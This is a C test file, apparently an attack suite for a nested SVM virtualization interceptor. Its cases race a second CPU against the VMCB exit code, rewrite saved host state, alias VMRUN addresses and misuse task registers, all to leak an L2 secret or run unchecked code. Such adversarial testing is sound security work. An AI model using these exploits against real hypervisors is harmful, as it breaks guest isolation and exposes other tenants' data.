/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * L1 tries to have the interceptor take L2 for L1, so that L2's port I/O falls to L1, or L1 for L2, so that its own
 * reaches the console. What L1 is told of it print() says as `ioio=`.
 */
#include "svm.h"

enum { COM1 = 0x3f8, COM1_LSR = 0x3fd, COM1_SCR = 0x3ff, OWN_SCRATCH = 0x77 };
static const char secret[] = "<the secret>";

/* From the start of the code that set_up_late() put there. */
static void rewind_late(struct l2 *l2, uint64_t turns) {
    l2->vmcb->rip = L2_CODE;
    l2->regs.r[RCX] = turns;
    l2->regs.r[RBX] = sizeof secret - 1;
    l2->regs.r[RSI] = L2_DATA;
}

static void set_up_late(struct l2 *l2, uint64_t turns) {
    L2_LOAD(l2, l2_late);
    memcpy(l2->memory + L2_DATA, secret, sizeof secret);
    rewind_late(l2, turns);
}

static void run_and_tell(struct l2 *l2) {
    unsigned told = 0;
    uint64_t code;

    print("told=");
    code = l2_run_past_io(l2, &told);
    print(" exit=%x\n", code);
}

static struct vmcb *volatile target;
static volatile bool running, stop;
static volatile uint64_t chances; /* how often the other CPU came in time to write */

/* The other CPU is at it, before L2 runs. */
static void start(void (*function)(void)) {
    second_start(function);
    while (!running)
        ;
}

static void overwrite_exit_code(void) {
    for (running = true; !stop;)
        ((volatile struct vmcb *)target)->exit_code = 0;
    for (;;)
        __asm__ volatile("hlt");
}

/* While L2 runs, another CPU writes into EXITCODE; L2 then goes on in code that was never run. */
ATTACK(exit_code_overwritten) {
    struct l2 *l2 = l2_new();

    l2_say(l2, "L2 begins\n");
    target = l2->vmcb;
    start(overwrite_exit_code);
    set_up_late(l2, 20000000);
    run_and_tell(l2);
}

/* L1's EFER lies in its own memory while L2 runs, as QEMU has it laid out like a VMCB: another CPU takes out what the
 * interceptor put there, and keeps what stands in EXITCODE, which L1 writes back at leisure. */
static volatile uint32_t *saved_efer_high;
volatile uint64_t kept;

static void rewrite_host_state(void) {
    for (running = true;;) {
        uint64_t now = ((volatile struct vmcb *)target)->exit_code;

        if (now > EXIT_NPF)
            kept = now;
        *saved_efer_high = 0;
    }
}

ATTACK(host_state_rewritten) {
    uint8_t *code = memcpy(pages(1), stub_keeping, (size_t)(stub_keeping_end - stub_keeping));
    struct l2 *l2 = l2_new();
    uint64_t scratch;

    l2_say(l2, "L2 begins\n");
    out8(COM1_SCR, OWN_SCRATCH);
    saved_efer_high = (volatile uint32_t *)(read_msr(MSR_VM_HSAVE_PA) + offsetof(struct vmcb, efer) + 4);
    target = l2->vmcb;
    start(rewrite_host_state);
    L2_LOAD(l2, l2_long_pause);
    scratch = HIGH((stub_function *)(uintptr_t)code)((uintptr_t)l2->vmcb, 0x80);
    print("\nscratch=%x\nkept=%u\n", scratch, (uint64_t)(kept != 0));
}

/* The same with an L2 of L1's own that shares the user's code; then the user's L2 runs that code, undisturbed. */
ATTACK(poisoned_block) {
    enum { TURNS = 20000000 };
    struct l2 *l2 = l2_new();
    struct vmcb *users = l2->vmcb;

    l2_say(l2, "L2 begins\n");
    l2_new_vmcb(l2);
    target = l2->vmcb;
    start(overwrite_exit_code);
    set_up_late(l2, TURNS);
    run_and_tell(l2);
    stop = true;
    l2->vmcb = users;
    rewind_late(l2, 1);
    print("users_");
    run_and_tell(l2);
}

/* An L2 of L1's own, which shares the user's code, runs without SVME for a moment, as if it were L1 that had left it.
 */
ATTACK(svme_toggled) {
    enum { TOGGLE = L2_CODE + 0x800 };
    struct l2 *l2 = l2_new();
    struct vmcb *users = l2->vmcb;

    l2_say(l2, "L2 begins\n");
    L2_LOAD(l2, l2_secret);
    memcpy(l2->memory + TOGGLE, l2_toggle_svme, (size_t)(l2_toggle_svme_end - l2_toggle_svme));
    l2_new_vmcb(l2);
    l2->vmcb->intercept_1 &= ~INTERCEPT_MSR;
    l2->vmcb->rip = TOGGLE;
    l2->regs.r[RBX] = L2_CODE;
    run_and_tell(l2);
    l2->vmcb = users;
    l2->vmcb->rip = L2_CODE;
    print("users_");
    run_and_tell(l2);
}

/* L2's user may use the port: so says its TSS. L1 loads TR from one VMCB, and runs another that names none. */
ATTACK(stale_task_register) {
    struct l2 *l2 = l2_new();
    struct vmcb *other = pages(1);

    l2_say(l2, "L2 begins\n");
    l2_set_mode(l2, MODE_LONG, 3, 0);
    L2_LOAD(l2, l2_secret);
    memset(l2->memory + L2_TSS + 0x68 + COM1 / 8, 0, 1);
    memcpy(other, l2->vmcb, PAGE);
    l2->vmcb->tr = (struct segment){0};
    __asm__ volatile("vmload %0" : : "a"(other) : "memory");
    HIGH((stub_function *)(uintptr_t)stub)((uintptr_t)l2->vmcb, COM1_LSR);
    print("\nexit=%x info1=%x\n", l2->vmcb->exit_code, l2->vmcb->exit_info_1);
}

static void copy_to_read_only(const struct vmcb *vmcb, void *where) {
    enum { PCI_ADDRESS = 0xcf8, PAM_5 = 0x80000000 | 0x5c, PAM_5_SHIFT = 16, READ = 1, WRITE = 2 };

    out32(PCI_ADDRESS, PAM_5);
    out32(PCI_ADDRESS + 4, (READ | WRITE) << PAM_5_SHIFT);
    memcpy(where, vmcb, PAGE);
    out32(PCI_ADDRESS + 4, READ << PAM_5_SHIFT);
}

/* A VMCB in shadow RAM that the chipset write-protects (82441FX datasheet, PAM registers). */
ATTACK(read_only_vmcb) {
    struct l2 *l2 = l2_new();

    l2_say(l2, "L2 begins\n");
    set_up_late(l2, 1000);
    l2->vmcb->intercept_1 &= ~INTERCEPT_IOIO;
    l2->vmcb->rsp = l2->regs.r[RSP];
    copy_to_read_only(l2->vmcb, (void *)0xe0000);
    *(volatile uint64_t *)0xe0070 = 0x5a5a;
    print("write_protected=%u\n", (uint64_t)(*(volatile uint64_t *)0xe0070 != 0x5a5a));
    HIGH(vm_enter)(&l2->regs, 0xe0000);
    print("\nended=1\n");
}

/* VMRUN by EAX, with more in RAX. */
ATTACK(addr32_vmrun) {
    struct l2 *l2 = l2_new();

    l2_say(l2, "L2 begins\n");
    set_up_late(l2, 1000);
    l2->vmcb->intercept_1 &= ~INTERCEPT_IOIO;
    /* the registers that L2 gets from here are those of a C function: its own code sets them */
    L2_LOAD(l2, l2_secret);
    HIGH((stub_function *)(uintptr_t)stub_addr32)((uintptr_t)l2->vmcb | 0xdead00000000, COM1_LSR);
    print("\nended=1\n");
}

/* VMRUN at two linear addresses: at the second one it faults, and L1's handler was never run. It names the user's
 * nested table, as if for one more vCPU. */
ATTACK(aliased_vmrun) {
    enum { GENERAL_PROTECTION = 13, MISALIGNED = 8, N_CR3 = offsetof(struct vmcb, n_cr3) };
    extern uint8_t gp_handler[], gp_handler_end[];
    extern volatile uint8_t gp_scratch;
    const uint64_t second = 5ull << 30;
    uint64_t *pointers = pml4 + 512;
    uint8_t *code = memcpy(pages(1), stub, (size_t)(stub_end - stub)), *bad = pages(2);
    struct l2 *l2 = l2_new();

    l2_say(l2, "L2 begins\n");
    pointers[second >> 30] = pointers[0];
    L2_LOAD(l2, l2_nothing);
    HIGH((stub_function *)(uintptr_t)code)((uintptr_t)l2->vmcb, COM1_LSR);
    out8(COM1_SCR, OWN_SCRATCH);
    *(uint64_t *)(bad + MISALIGNED + N_CR3) = l2->vmcb->n_cr3;
    trap_set(GENERAL_PROTECTION, (uintptr_t)memcpy(pages(1), gp_handler, (size_t)(gp_handler_end - gp_handler)));
    ((stub_function *)((uintptr_t)code + second))((uintptr_t)bad + MISALIGNED, COM1_LSR);
    print("\nscratch=%x\n", (uint64_t)gp_scratch);
}

static void map_in_l2(struct l2 *l2, uint64_t linear, uint64_t physical) {
    uint64_t *table = (uint64_t *)(l2->memory + L2_TABLES + 3 * PAGE);

    table[linear % HIGH_ADDRESS / PAGE] = physical | 7;
}

static void set_idt_entry(struct l2 *l2, unsigned vector, uint64_t handler) {
    enum { L2_IDT = 0x2000, CODE_64 = 0x08, INTERRUPT_GATE = 0x8e };
    uint16_t *gate = (uint16_t *)(l2->memory + L2_IDT + 16 * vector);

    gate[0] = (uint16_t)handler;
    gate[1] = CODE_64;
    gate[2] = INTERRUPT_GATE << 8;
    gate[3] = (uint16_t)(handler >> 16);
    l2->vmcb->idtr = (struct segment){.base = L2_IDT, .limit = 0xfff};
}

/* An exception in L2 where L1 has its VMRUN, with the value in CR3 that L1 has there. */
ATTACK(exception_at_vmrun) {
    enum { INVALID_OPCODE = 6, UD2 = 0x0b0f };
    extern const uint8_t vm_enter_vmrun[];
    struct l2 *l2 = l2_new();
    uint64_t at = (uintptr_t)HIGH(vm_enter_vmrun), root = (uintptr_t)pml4;
    uint64_t page = L2_DATA + 0x8000;

    l2_say(l2, "L2 begins\n");
    set_up_late(l2, 1);
    map_in_l2(l2, at, page);
    memset(l2->memory + page, 0x90, PAGE);
    *(uint16_t *)(l2->memory + page + at % PAGE) = UD2;
    set_idt_entry(l2, INVALID_OPCODE, L2_CODE);
    l2->vmcb->intercept_exceptions = 0;
    l2->nested[root / PAGE] = (uintptr_t)(l2->memory + L2_TABLES) | 7;
    l2->vmcb->cr3 = root;
    l2->vmcb->rip = at;
    run_and_tell(l2);
}

/* Writes back what stood in EXITCODE while L2 ran, as soon as the #VMEXIT has overwritten it. */
static void restore_exit_code(void) {
    uint64_t before = 0;

    for (running = true; !stop;) {
        uint64_t now = ((volatile struct vmcb *)target)->exit_code;

        if (now != EXIT_VMMCALL && now) {
            before = now;
        } else if (before) {
            ((volatile struct vmcb *)target)->exit_code = before;
            before = 0;
            chances++;
        }
    }
    for (;;)
        __asm__ volatile("hlt");
}

/* L1's own port I/O right after VMRUN, in code that was never run, while another CPU does that; then the same code
 * once more, without the other CPU. What reaches the console instead of L1's own port is an 'X' for each try. */
enum { STUB_STEP = 128 };

static uint64_t run_stubs(struct l2 *l2, uint8_t *code, uint64_t *tries, uint64_t wanted) {
    uint64_t foreign = 0, i; /* scratch registers that were not L1's own */

    L2_LOAD(l2, l2_pause);
    for (i = 0; i < *tries && chances < wanted; i++) {
        l2->vmcb->rip = L2_CODE;
        foreign += HIGH((stub_function *)(uintptr_t)(code + i * STUB_STEP))((uintptr_t)l2->vmcb, 0x80) != OWN_SCRATCH;
        while (!(in8(COM1_LSR) & 0x20))
            ;
    }
    *tries = i;
    return foreign;
}

ATTACK(exit_code_restored) {
    uint64_t tries = option("tries", 1000), wanted = option("chances", 1000);
    uint8_t *code = pages(tries * STUB_STEP / PAGE + 1);
    struct l2 *l2 = l2_new();

    for (uint64_t i = 0; i < tries; i++)
        memcpy(code + i * STUB_STEP, stub, (size_t)(stub_end - stub));
    l2_say(l2, "L2 begins\n");
    out8(COM1_SCR, OWN_SCRATCH);
    target = l2->vmcb;
    start(restore_exit_code);
    print("\nforeign=%u\n", run_stubs(l2, code, &tries, wanted));
    stop = true;
    wait_ticks(1);
    l2_say(l2, "\nL2 again\n");
    print("chances=%u\n", chances);
    chances = 0;
    print("\nforeign_again=%u\n", run_stubs(l2, code, &tries, UINT64_MAX));
    print("\ntries=%u\n", tries);
}
